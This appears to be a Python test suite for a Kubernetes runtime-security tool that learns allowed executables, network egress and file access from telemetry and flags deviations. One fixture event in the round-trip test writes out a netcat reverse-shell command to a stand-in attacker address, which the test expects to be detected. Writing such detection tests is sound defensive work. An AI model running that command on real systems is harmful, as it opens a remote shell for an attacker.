#!/usr/bin/env python3
"""learn and check --events: telemetry -> learn -> profile -> judged by the
same runtime rules the controller uses.  The learned profile allows the
events it came from and flags a new executable and a new destination."""
import json
import os
import subprocess
import tempfile
import unittest

BIN = os.environ.get("PROFILEGUARD", "build/src/cmd/profileguard")
# hack/valgrind: every run under memcheck
WRAPPER = os.environ.get("PG_TEST_WRAPPER", "").split()
ROOT = os.environ.get("SOURCE_ROOT", os.path.join(os.path.dirname(__file__), "..", ".."))
DATA = os.path.join(ROOT, "tests", "data", "telemetry")
POD = os.path.join(ROOT, "examples", "manifests", "good", "payments-pod.yaml")


def run(*args, stdin=None):
    p = subprocess.run([*WRAPPER, BIN, *args], input=stdin, capture_output=True, text=True, timeout=600 if WRAPPER else 60)
    return p.returncode, p.stdout, p.stderr


def native(kind, **kw):
    ev = {"kind": kind, "time": "2026-11-22T11:00:00Z", "node": "node-a",
          "pod": {"namespace": "payments", "name": "payments-api-7d9f-x2"}, "container": "api"}
    ev.update(kw)
    return json.dumps(ev)


class Learn(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.dir = self.tmp.name
        # audit events without the stale-token sample: learn cannot allow a stale token
        with open(os.path.join(DATA, "audit.json")) as f:
            audit = json.load(f)
        audit["items"] = [i for i in audit["items"] if "authentication.k8s.io/stale-token" not in i.get("annotations", {})]
        self.audit = self.path("audit.json", json.dumps(audit))
        self.events = [os.path.join(DATA, "native.jsonl"), self.audit, os.path.join(DATA, "falco.json")]

    def tearDown(self):
        self.tmp.cleanup()

    def path(self, name, text):
        p = os.path.join(self.dir, name)
        with open(p, "w") as f:
            f.write(text)
        return p

    def learn(self, *extra, events=None):
        args = ["learn", "--pod", POD, "--name", "payments-api", "--namespace", "payments", "--mode", "Enforce"]
        for e in events or self.events:
            args += ["-f", e]
        return run(*args, *extra)

    def test_round_trip(self):
        rc, profile, err = self.learn()
        self.assertEqual(rc, 0, err)
        prof = self.path("learned.yaml", profile)
        # the learned profile is valid and the pod it came from passes admission
        rc, out, err = run("check", "-p", prof, "-f", POD)
        self.assertEqual(rc, 0, out + err)
        # the events it was learned from are all allowed
        args = ["check", "-p", prof, "-f", POD]
        for e in self.events:
            args += ["--events", e]
        rc, out, err = run(*args)
        self.assertEqual(rc, 0, out + err)
        self.assertIn("0 findings (0 Enforce)", out)
        # a new executable and a new destination are flagged
        new = self.path("new.jsonl", "\n".join([
            native("exec", exe="/usr/bin/nc", args=["-e", "/bin/sh", "203.0.113.9", "4444"]),
            native("connect", daddr="198.51.100.7", dport=443, protocol="tcp"),
            native("connect", daddr="10.96.14.2", dport=5432, protocol="tcp"),   # seen before: fine
        ]) + "\n")
        rc, out, err = run("check", "-p", prof, "-f", POD, "--events", new, "-o", "json")
        self.assertEqual(rc, 1, out + err)
        doc = json.loads(out)
        findings = [f for r in doc["results"] if "findings" in r for f in r["findings"]]
        self.assertEqual(sorted(f["reason"] for f in findings), ["UnexpectedEgress", "UnexpectedExecutable"])
        self.assertIn('container "api": exec "/usr/bin/nc" not allowed by payments/payments-api runtime.executables',
                      [f["message"] for f in findings])
        self.assertIn('container "api": connect 198.51.100.7:443/tcp not allowed by payments/payments-api runtime.egress',
                      [f["message"] for f in findings])
        self.assertEqual(doc["summary"]["events"], {"judged": 3, "findings": 2, "enforce": 2, "unattributed": 0})

    def test_profile_content(self):
        rc, profile, err = self.learn()
        self.assertEqual(rc, 0, err)
        for want in ("  name: payments-api\n  namespace: payments\n",
                     "    matchLabels:\n      app: payments-api\n  mode: Enforce\n",
                     "    serviceAccountNames: [payments-api]\n",
                     "    requireDigest: true\n",
                     "      - /app/server\n      - /bin/sh\n      - /usr/bin/curl\n",
                     '      - cidr: "10.96.0.10/32"\n        ports: [53]\n',
                     '      - cidr: "10.96.14.2/32"\n        ports: [5432]\n',
                     "      read:\n        - /etc/ssl/certs/ca-certificates.crt\n      write:\n        - /tmp/cache/session.db\n",
                     "      - verbs: [get]\n        resources: [configmaps]\n        resourceNames: [payments-api-config]\n"):
            self.assertIn(want, profile)
        self.assertNotIn("app.kubernetes.io/version", profile)   # changes every release
        self.assertNotIn("secrets", profile)                      # only in the stale-token sample

    def test_deterministic(self):
        _, a, _ = self.learn()
        _, b, _ = self.learn(events=list(reversed(self.events)))
        self.assertEqual(a, b)

    def test_cidr_aggregation_is_exact(self):
        ev = self.path("net.jsonl", "\n".join(
            [native("connect", daddr=f"10.1.2.{i}", dport=443) for i in range(4)] +
            [native("connect", daddr="10.1.2.4", dport=80),
             native("connect", daddr="10.1.2.5", dport=443),
             native("connect", daddr="fd00::1", dport=8443)]) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 0, err)
        self.assertIn('      - cidr: "10.1.2.0/30"\n        ports: [443]\n', profile)
        self.assertIn('      - cidr: "10.1.2.4/32"\n        ports: [80]\n', profile)
        self.assertIn('      - cidr: "10.1.2.5/32"\n        ports: [443]\n', profile)
        self.assertIn('      - cidr: "fd00::1/128"\n        ports: [8443]\n', profile)
        self.assertIn("executables are not profiled", profile)   # no exec seen: not []

    def test_many_ports_are_all_kept(self):
        # 300 ports on two addresses: the port list once lived in a fixed
        # 512-byte string, and past it learn wrote out of bounds.
        ev = self.path("ports.jsonl", "\n".join(
            native("connect", daddr=f"10.9.0.{1 + i % 2}", dport=10000 + i, protocol="tcp")
            for i in range(300)) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 0, err)
        for addr, first in (("10.9.0.1", 10000), ("10.9.0.2", 10001)):
            want = ", ".join(str(p) for p in range(first, 10300, 2))
            self.assertIn(f'      - cidr: "{addr}/32"\n        ports: [{want}]\n', profile)
        args = ["check", "-p", self.path("learned.yaml", profile), "-f", POD, "--events", ev]
        rc, out, err = run(*args)
        self.assertEqual(rc, 0, out + err)
        self.assertIn("0 findings (0 Enforce)", out)

    def test_what_no_profile_can_hold(self):
        # A path past the validator's 4,096 bytes is left out, and said so;
        # the profile printed still validates.
        ev = self.path("long.jsonl", native("exec", exe="/app/server") + "\n" +
                       native("exec", exe="/" + "a" * 5000) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 0, err)
        self.assertIn("1 events left out: a path or name longer than a profile holds", err)
        self.assertIn("# 1 events left out", profile)
        self.assertIn("      - /app/server\n", profile)
        rc, out, err = run("check", "-p", self.path("p.yaml", profile), "-f", POD)
        self.assertEqual(rc, 0, out + err)
        # More distinct executables than a profile may list: no profile at
        # all, rather than one the validator refuses or one cut short.
        ev = self.path("many.jsonl", "\n".join(native("exec", exe=f"/bin/x{i}") for i in range(4100)) + "\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 2)
        self.assertEqual(profile, "")
        self.assertIn("cannot write the profile: 4100 distinct executables seen; a profile holds at most 4096", err)

    def test_bad_lines_still_print_but_exit_2(self):
        ev = self.path("bad.jsonl", native("exec", exe="/app/server") + "\nnot json\n")
        rc, profile, err = self.learn(events=[ev])
        self.assertEqual(rc, 2)
        self.assertIn("1 malformed events record skipped", err)
        self.assertIn("      - /app/server\n", profile)

    def test_without_pod_and_other_namespace(self):
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n" +
                       native("exec", exe="/bin/evil", pod={"namespace": "other", "name": "x"}) + "\n")
        rc, profile, err = run("learn", "-f", ev, "--name", "svc", "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        self.assertIn("# no pod labels known: check this selector", profile)
        self.assertIn("  mode: Audit\n", profile)
        self.assertNotIn("/bin/evil", profile)
        self.assertIn("1 skipped", err)
        # and it is a valid profile
        prof = self.path("p.yaml", profile)
        rc, out, err = run("check", "-p", prof, "-f", POD)
        self.assertEqual(rc, 0, out + err)

    def test_usage(self):
        rc, _, err = run("learn", "--name", "x")
        self.assertEqual(rc, 2)
        self.assertIn("need -f EVENTS", err)
        rc, _, err = run("learn", "-f", "/nonexistent", "--name", "x", "--namespace", "y")
        self.assertEqual(rc, 2)
        rc, _, err = run("learn", "-f", "-", "--name", "x", "--namespace", "y", "--format", "syslog", stdin="")
        self.assertEqual(rc, 2)
        # what would make the profile's metadata invalid is refused up front
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
        for args, want in ((["--name", "x", "--namespace", "auditID"], '--namespace "auditID" is not a valid namespace name'),
                           (["--name", "Bad_Name", "--namespace", "y"], '--name "Bad_Name" is not a valid name'),
                           (["--name", "x", "--namespace", "y", "--service-account", "a b"], '--service-account "a b" is not a valid name')):
            rc, out, err = run("learn", "-f", ev, *args)
            self.assertEqual((rc, out), (2, ""), err)
            self.assertIn(want, err)

    def test_selector_only_from_valid_labels(self):
        # A manifest's labels are not validated on the way in: those the
        # API server would refuse are left out of the selector, and said so.
        pod = self.path("pod.yaml", "apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: payments,\n"
                        "  labels: {app: api, 'bad key!': x, tier: 'not a value'}}\n"
                        "spec: {containers: [{name: c, image: 'r.io/a@sha256:" + "a" * 64 + "'}]}\n")
        ev = self.path("x.jsonl", native("exec", exe="/app/server") + "\n")
        rc, profile, err = run("learn", "-f", ev, "--pod", pod, "--name", "svc", "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        self.assertIn("    # 2 pod labels left out: not a valid label key or value\n    matchLabels:\n      app: api\n", profile)
        rc, out, err = run("check", "-p", self.path("p.yaml", profile), "-f", pod)
        self.assertEqual(rc, 0, out + err)
        # With no usable label, the fallback selector is a valid label value
        # even for a name longer than one.
        name = "a" * 60 + ".b" * 10
        rc, profile, err = run("learn", "-f", ev, "--name", name, "--namespace", "payments")
        self.assertEqual(rc, 0, err)
        self.assertIn("      app: " + "a" * 60 + ".b\n", profile)
        rc, out, err = run("check", "-p", self.path("q.yaml", profile), "-f", POD)
        self.assertEqual(rc, 0, out + err)


if __name__ == "__main__":
    unittest.main(verbosity=2)
